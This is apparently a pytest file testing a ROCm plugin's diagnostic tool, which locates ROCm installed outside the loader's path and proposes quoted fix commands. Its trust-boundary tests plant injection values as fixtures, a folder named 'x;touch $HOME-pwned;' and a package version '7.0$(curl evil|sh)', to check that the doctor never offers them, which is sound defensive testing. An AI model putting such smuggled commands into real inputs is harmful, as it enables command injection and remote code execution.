"""ROCm on disk but not where the loader looks: the doctor says where it is and the one step that makes it seen,
where it used to say "no ROCm runtime is installed" (and the user reinstalled what was there).

Each machine is the healthy 8 x MI300X of tests/support/fleet.py (a synthetic sysroot) with its ROCm moved, unlinked
or deleted as the case says; package databases are written in their documented formats (tests/support/package_dbs.py).
"""

from __future__ import annotations

import shlex
import shutil
import sys
from pathlib import Path

import pytest

from jax_rocm7_plugin._doctor.proof import NO_ERROR
from jax_rocm7_plugin._doctor.report import Report
from jax_rocm7_plugin._machine.rocm_elsewhere import rpm_files, rpm_header
from tests.support.fleet import HEALTHY, build_host
from tests.support.inprocess import doctor
from tests.support.package_dbs import rpm_header_blob, write_dpkg_list, write_rpmdb

ROCM = "7.14.0"


def _machine(tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, dict[str, str], Path, Path]:
    """The healthy host with its ROCm unlinked: no /opt/rocm, nothing in ld.so.conf.d. Returns the tree too."""
    root, environ, library = build_host(HEALTHY[0], ROCM, tmp_path, build, monkeypatch)
    tree = (root / "opt" / "rocm").resolve()
    (root / "opt" / "rocm").unlink()
    (root / "etc" / "ld.so.conf.d" / "10-rocm.conf").unlink()
    return root, environ, library, tree


def _pip_rocm_elsewhere(root: Path, build: Path, versions: dict[str, str]) -> None:
    """TheRock's pip ROCm in another Python environment (alice's venv): its HIP runtime and the distributions'
    METADATA, each stating the version given (test fixture)."""
    site = root / "home" / "alice" / "venv" / "lib" / "python3.12" / "site-packages"
    (site / "_rocm_sdk_core" / "lib").mkdir(parents=True)
    shutil.copy(build / "hip" / "libamdhip64.so.7", site / "_rocm_sdk_core" / "lib")
    for name, version in versions.items():
        info = site / f"{name.replace('-', '_')}-{ROCM}.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\nA description.\n")


def _not_found(report: Report) -> object:
    return next(f for f in report.findings if f.id == "rocm-not-found")


def test_a_tarball_in_a_home_folder_is_named_with_the_step_that_makes_it_seen(
    tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
    (root / "home" / "alice").mkdir(parents=True)
    shutil.move(str(tree), root / "home" / "alice" / "therock")
    finding = _not_found(doctor(environ, root, library))
    assert finding.summary.startswith(f"ROCm {ROCM}-56 is installed at /home/alice/therock, but not where")  # type: ignore[attr-defined]
    assert "export LD_LIBRARY_PATH=/home/alice/therock/lib" in finding.fix  # type: ignore[attr-defined]
    assert "sudo ln -s /home/alice/therock /opt/rocm" in finding.fix  # type: ignore[attr-defined]
    assert "install ROCm" not in finding.fix  # type: ignore[attr-defined]
    assert finding.remedy.checked is True, finding.remedy.outcome  # type: ignore[attr-defined]
    assert finding.remedy.outcome.startswith(NO_ERROR) or "gone" in finding.remedy.outcome  # type: ignore[attr-defined]


def test_pip_rocm_in_another_environment_is_installed_into_this_one(
    tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
    shutil.rmtree(tree)
    _pip_rocm_elsewhere(root, build, {"rocm-sdk-core": ROCM, "rocm-sdk-libraries-gfx94X-dcgpu": ROCM})
    finding = _not_found(doctor(environ, root, library))
    assert "from pip is installed in another Python environment (/home/alice/venv/" in finding.summary  # type: ignore[attr-defined]
    # The command as the shell reads it back: an argument list, quoted (shlex.join).
    command = finding.fix.removeprefix("install the same ROCm into this environment: ")  # type: ignore[attr-defined]
    assert shlex.split(command) == [
        sys.executable, "-m", "pip", "install", f"rocm-sdk-core=={ROCM}", f"rocm-sdk-libraries-gfx94X-dcgpu=={ROCM}",
        "--extra-index-url", "https://repo.amd.com/rocm/whl/gfx94X-dcgpu/",
    ]  # fmt: skip


def test_a_runtime_dpkg_lists_but_the_disk_lost_is_reinstalled_from_its_package(
    tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
    shutil.rmtree(tree)
    write_dpkg_list(root, "hip-runtime-amd7.14.0", [f"/opt/rocm-{ROCM}/lib/libamdhip64.so.7"])
    write_dpkg_list(root, "bash", ["/bin/bash"])
    finding = _not_found(doctor(environ, root, library))
    assert finding.fix == "reinstall the package: sudo apt-get install --reinstall hip-runtime-amd7.14.0"  # type: ignore[attr-defined]
    assert "dpkg's list of package hip-runtime-amd7.14.0" in finding.evidence[0]  # type: ignore[attr-defined]


def test_a_runtime_rpm_lists_but_the_disk_lost_is_reinstalled_from_its_package(
    tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
    shutil.rmtree(tree)
    write_rpmdb(
        root,
        {"bash": ["/usr/bin/bash"], "hip-runtime-amd": [f"/opt/rocm-{ROCM}/lib/libamdhip64.so.7", "/opt/x/README"]},
    )
    finding = _not_found(doctor(environ, root, library))
    assert finding.fix == "reinstall the package: sudo dnf reinstall hip-runtime-amd"  # type: ignore[attr-defined]


def test_a_machine_without_rocm_anywhere_is_still_told_to_install_it(
    tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The nearest neighbour of the cases above: nothing to find, so the fix stays "install ROCm 7", and the
    evidence says how far the doctor looked (and names an older ROCm it met on the way)."""
    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
    shutil.rmtree(tree)
    old = root / "home" / "bob" / "rocm-6.4"
    (old / "lib").mkdir(parents=True)
    shutil.copy(build / "hip" / "libamdhip64.so.7", old / "lib" / "libamdhip64.so.6")
    finding = _not_found(doctor(environ, root, library))
    assert finding.fix.startswith("install ROCm 7")  # type: ignore[attr-defined]
    assert any("searched beyond the loader's path" in line for line in finding.evidence)  # type: ignore[attr-defined]
    assert any("not ROCm 7: ROCm 6 at /home/bob/rocm-6.4" in line for line in finding.evidence)  # type: ignore[attr-defined]


def test_the_rpm_header_reader_on_a_damaged_blob_reads_what_it_can() -> None:
    blob = rpm_header_blob("hip-runtime-amd", ["/opt/rocm/lib/libamdhip64.so.7", "/opt/rocm/lib/libhiprtc.so.7"])
    assert rpm_files(rpm_header(blob)) == ["/opt/rocm/lib/libamdhip64.so.7", "/opt/rocm/lib/libhiprtc.so.7"]
    for cut in (0, 7, 20, len(blob) // 2, len(blob) - 1):
        assert rpm_files(rpm_header(blob[:cut])) == []  # a short blob is no package, never an exception
    assert rpm_header(b"\x7f\xff\xff\xff\x00\x00\x00\x10" + b"\0" * 16) == {}


RPM_SPEC = """Name: hip-runtime-amd
Version: 7.14.0
Release: 1
Summary: test fixture (a package whose one file is where AMD's HIP runtime package puts it)
License: MIT
BuildArch: noarch
%description
test fixture
%install
mkdir -p %{buildroot}/opt/rocm-7.14.0/lib
echo stand-in > %{buildroot}/opt/rocm-7.14.0/lib/libamdhip64.so.7
%files
/opt/rocm-7.14.0/lib/libamdhip64.so.7
"""


def test_a_real_rpm_database_names_the_package_whose_runtime_the_disk_lost(
    tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """rpm itself (Debian's rpm 4.18, sqlite backend) builds a package and records it in the machine's database
    (--justdb: the file itself is never written, as after a deletion): the doctor reads rpm's own header."""
    import os
    import subprocess

    from tests.support.environment import require

    require(shutil.which("rpmbuild") is not None, "Debian's rpm package (rpm, rpmbuild)")
    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
    shutil.rmtree(tree)
    (tmp_path / "t.spec").write_text(RPM_SPEC)
    top = tmp_path / "rpmbuild"
    subprocess.run(["rpmbuild", "-bb", "--quiet", "--define", f"_topdir {top}", str(tmp_path / "t.spec")], check=True)
    (package,) = (top / "RPMS" / "noarch").glob("*.rpm")
    rpm = ["rpm", "--root", str(root), "--dbpath", "/var/lib/rpm"]
    quiet = {**os.environ, "LC_ALL": "C"}
    subprocess.run([*rpm, "--initdb"], check=True, env=quiet)
    subprocess.run([*rpm, "-i", "--justdb", "--nodeps", "--noscripts", str(package)], check=True, capture_output=True)
    assert (root / "var" / "lib" / "rpm" / "rpmdb.sqlite").is_file()
    finding = _not_found(doctor(environ, root, library))
    assert finding.fix == "reinstall the package: sudo dnf reinstall hip-runtime-amd"  # type: ignore[attr-defined]


def test_fifos_planted_where_package_databases_are_never_block_the_search(
    tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A FIFO with a dpkg list's name, one with rpm's database's name: read as nothing, at once (a blocking read of
    either would hang the doctor)."""
    import os

    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
    shutil.rmtree(tree)
    (root / "var" / "lib" / "dpkg" / "info").mkdir(parents=True)
    os.mkfifo(root / "var" / "lib" / "dpkg" / "info" / "hip-runtime-amd:amd64.list")
    (root / "var" / "lib" / "rpm").mkdir(parents=True)
    os.mkfifo(root / "var" / "lib" / "rpm" / "rpmdb.sqlite")
    finding = _not_found(doctor(environ, root, library))
    assert finding.fix.startswith("install ROCm 7")  # type: ignore[attr-defined]
    assert any("searched beyond the loader's path" in e for e in finding.evidence)  # type: ignore[attr-defined]
    assert not any("stopped at" in e for e in finding.evidence)  # type: ignore[attr-defined]  # not cut by the deadline


# --- What another user planted is never offered (issue: trust boundaries) ------------------------------------------

PLANTED = "x;touch $HOME-pwned;"  # a folder name that is a command where a fix pasted it unquoted


def _chown_tree(path: Path, uid: int, mode: int | None = None) -> None:
    import os

    for folder, _, files in os.walk(path):
        os.lchown(folder, uid, uid)
        for name in files:
            os.lchown(os.path.join(folder, name), uid, uid)
    if mode is not None:
        path.chmod(mode)


@pytest.mark.parametrize(
    ("owner", "mode"),
    [(1234, 0o755), (0, 0o777)],
    ids=["another user's tree", "this user's tree, writable by everyone"],
)
def test_a_tree_another_user_could_have_written_is_never_offered(
    owner: int, mode: int, tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A ROCm tree planted in /tmp (every user may write there) under a name with shell metacharacters: the doctor
    names what it found and why it does not offer it, and no fix, remedy or command names it."""
    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
    planted = root / "tmp" / PLANTED
    shutil.move(str(tree), planted)
    _chown_tree(planted, owner, mode)
    finding = _not_found(doctor(environ, root, library))
    assert PLANTED not in finding.fix and finding.remedy is None, finding.fix  # type: ignore[attr-defined]
    refused = [e for e in finding.evidence if e.startswith("found, not offered")]  # type: ignore[attr-defined]
    assert len(refused) == 1 and f"/tmp/{PLANTED}" in refused[0], finding.evidence  # type: ignore[attr-defined]
    assert ("owned by uid 1234" if owner else "writable by its group or by others") in refused[0], refused


def test_a_users_own_tree_is_offered_for_their_shell_with_no_sudo_and_quoted(
    tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The user's own tree (uid 1000, the process's identity in /proc/self/status) with a space and a quote in its
    name: offered for this shell only (no sudo for a path root does not own), every command quoted as the shell
    reads it back."""
    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
    status = root / "proc" / "self" / "status"
    status.parent.mkdir(parents=True, exist_ok=True)
    status.write_text("Name:\tpython3\nUid:\t1000\t1000\t1000\t1000\nGid:\t1000\t1000\t1000\t1000\nGroups:\t1000\n")
    home = root / "home" / "alice"
    home.mkdir(parents=True)
    shutil.move(str(tree), home / "rocm 7's")
    _chown_tree(home, 1000)
    finding = _not_found(doctor(environ, root, library))
    fix = finding.fix  # type: ignore[attr-defined]
    assert "sudo" not in fix, fix
    command = fix.split("for this shell, ", 1)[1]
    words = shlex.split(command)
    assert words[0] == "export" and words[2] == "ROCM_PATH=/home/alice/rocm 7's", words
    assert words[1].startswith("LD_LIBRARY_PATH=/home/alice/rocm 7's/lib"), words


def test_metadata_another_environment_states_never_enters_a_command(
    tmp_path: Path, build: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A planted METADATA whose Version is a command substitution: that distribution is left out of the command."""
    root, environ, library, tree = _machine(tmp_path, build, monkeypatch)
    shutil.rmtree(tree)
    _pip_rocm_elsewhere(root, build, {"rocm-sdk-core": "7.0$(curl evil|sh)", "rocm-sdk-libraries-gfx94X-dcgpu": ROCM})
    fix = _not_found(doctor(environ, root, library)).fix  # type: ignore[attr-defined]
    assert "curl" not in fix and "$(" not in fix, fix
    words = shlex.split(fix.removeprefix("install the same ROCm into this environment: "))
    assert words[4:] == [
        f"rocm-sdk-libraries-gfx94X-dcgpu=={ROCM}", "--extra-index-url", "https://repo.amd.com/rocm/whl/gfx94X-dcgpu/"
    ]  # fmt: skip
